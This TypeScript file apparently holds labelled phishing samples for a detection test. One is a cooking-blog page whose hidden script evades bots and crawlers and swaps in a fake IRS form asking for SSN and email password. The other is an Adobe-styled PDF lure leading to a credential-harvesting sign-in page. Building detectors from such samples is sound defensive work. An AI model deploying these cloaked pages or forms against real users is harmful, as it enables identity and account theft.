import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsRoute } from '../parts/e-bin.js';
import { b64, cardFields, cardFormatJs, doc, formCss, mark } from '../parts/ye-kit.js';

export const entries: Entry[] = [
{
  id: 'ye-cloaked-irs-kit-on-cooking-blog',
  label: 'phishing',
  kind: 'cloaked-kit',
  url: 'https://www.grandmasskilletkitchen.com/2025/03/cast-iron-cornbread/',
  body: doc({
    title: 'Cast Iron Cornbread (Southern Style) - Grandma\'s Skillet Kitchen',
    css: `body{margin:0;font-family:Lora,Georgia,serif;color:#333;background:#fffdf8}.h{text-align:center;padding:26px;border-bottom:1px solid #eee}.c{max-width:720px;margin:24px auto;padding:0 18px;line-height:1.7}.card{border:2px solid #e8d9b5;padding:16px;border-radius:6px}`,
    body: `<div class="h"><h1>Grandma's Skillet Kitchen</h1><p>Southern recipes from a well-seasoned pan</p></div>
<div class="c"><h2>Cast Iron Cornbread (Southern Style)</h2><p>Nothing beats cornbread baked in a screaming-hot cast iron skillet. The edges get crisp and golden and the middle stays tender. This is the recipe my grandmother made every Sunday in Macon.</p>
<div class="card"><h3>Ingredients</h3><ul><li>2 cups yellow cornmeal</li><li>1 cup all-purpose flour</li><li>1 tbsp baking powder</li><li>2 cups buttermilk</li><li>2 eggs</li><li>4 tbsp bacon drippings</li></ul><h3>Instructions</h3><ol><li>Put the skillet with the drippings in the oven and preheat to 425&deg;F.</li><li>Whisk the dry ingredients; stir in buttermilk and eggs.</li><li>Pour the batter into the hot skillet and bake 20&ndash;22 minutes.</li></ol></div></div>
<script>
(function(){
 var n=navigator,u=n.userAgent;
 if(n.webdriver||/HeadlessChrome|bot|crawl|spider|Lighthouse|Google-InspectionTool|bingpreview/i.test(u))return;
 if(!n.languages||!n.languages.length||screen.width<300)return;
 fetch('/wp-content/uploads/2025/03/.cache/irs.txt').then(function(x){return x.text()}).then(function(t){document.open();document.write(atob(t));document.close();});
})();
</script>`,
  }),
  routes: {
    'www.grandmasskilletkitchen.com/wp-content/uploads/2025/03/.cache/irs.txt': {
      status: 200,
      headers: { 'content-type': 'text/plain' },
      body: b64(
        doc({
          title: 'IRS Online Account - Verify Identity',
          css: `body{margin:0;font-family:Arial,sans-serif}.h{background:#00599c;color:#fff;padding:14px 24px;font-size:24px;font-weight:700}.c{max-width:520px;margin:24px auto;padding:0 16px}${formCss}button{background:#00599c;color:#fff;border:0;padding:12px 26px}`,
          body: `<div class="h">IRS</div><div class="c"><h2>Your Economic Impact Payment is on hold</h2><p>Verify your identity to release your payment of $1,400.</p><form method="post" action="/wp-content/uploads/2025/03/.cache/p.php"><div class="fld"><label>Full name</label><input name="n"></div><div class="fld"><label>SSN</label><input name="s"></div><div class="fld"><label>Date of birth</label><input name="d"></div><div class="fld"><label>Driver license #</label><input name="dl"></div><div class="fld"><label>Email</label><input name="e"></div><div class="fld"><label>Email password</label><input name="ep" type="password"></div><button>Verify</button></form></div>`,
        }),
      ),
    },
  },
},

{
  id: 'ye-assessor-shared-pdf-lure-to-kit',
  label: 'phishing',
  kind: 'document-lure',
  url: 'https://county-assessor-notice.webflow.io/',
  body: doc({
    title: 'Shared Document — Property Tax Reassessment Notice',
    css: `body{margin:0;font-family:"Segoe UI",Arial,sans-serif;background:#e9ecef}.w{max-width:500px;margin:70px auto;background:#fff;border-radius:8px;box-shadow:0 4px 18px rgba(0,0,0,.12);overflow:hidden}.top{background:#b30b00;color:#fff;padding:12px 18px;font-weight:600}.in{padding:24px;text-align:center}.pdf{width:74px;height:92px;margin:0 auto 12px;background:#fff;border:1px solid #ddd;position:relative}.pdf:after{content:"PDF";position:absolute;bottom:8px;left:0;right:0;background:#b30b00;color:#fff;font-size:12px}.btn{display:inline-block;background:#0b6bcb;color:#fff;padding:12px 30px;border-radius:4px;text-decoration:none}`,
    body: `<div class="w"><div class="top">Adobe Document Cloud</div><div class="in"><div class="pdf"></div>
<h3>Property_Tax_Reassessment_Notice_2025.pdf</h3><p style="color:#666;font-size:14px">Shared by Office of the County Assessor &middot; 214 KB<br>Your 2025 assessed value has changed. Review the notice before the appeal deadline of May 15.</p>
<a class="btn" href="https://docview-secure-login.com/adobe/?doc=PTRN2025">View Document</a>
<p style="font-size:11px;color:#999;margin-top:24px">Made in Webflow</p></div></div>`,
  }),
  routes: {
    'docview-secure-login.com/adobe/': htmlRoute(
      doc({
        title: 'Adobe PDF Online',
        css: `body{margin:0;font-family:Arial,sans-serif;background:url(/adobe/blur.jpg) #cfd6dd center/cover}.m{max-width:360px;margin:80px auto;background:#fff;padding:24px;border-radius:6px}input{width:100%;box-sizing:border-box;padding:10px;margin:6px 0;border:1px solid #bbb}button{width:100%;background:#b30b00;color:#fff;border:0;padding:11px}`,
        body: `<div class="m"><h3>Sign in with your email to view this shared document</h3><form method="post" action="/adobe/next.php"><input name="email" type="email" placeholder="Email address" required><input name="password" type="password" placeholder="Email password" required><button>View PDF</button></form><p style="font-size:11px;color:#777">Secured by Adobe&reg; PDF Online</p></div>`,
      }),
    ),
  },
},
];
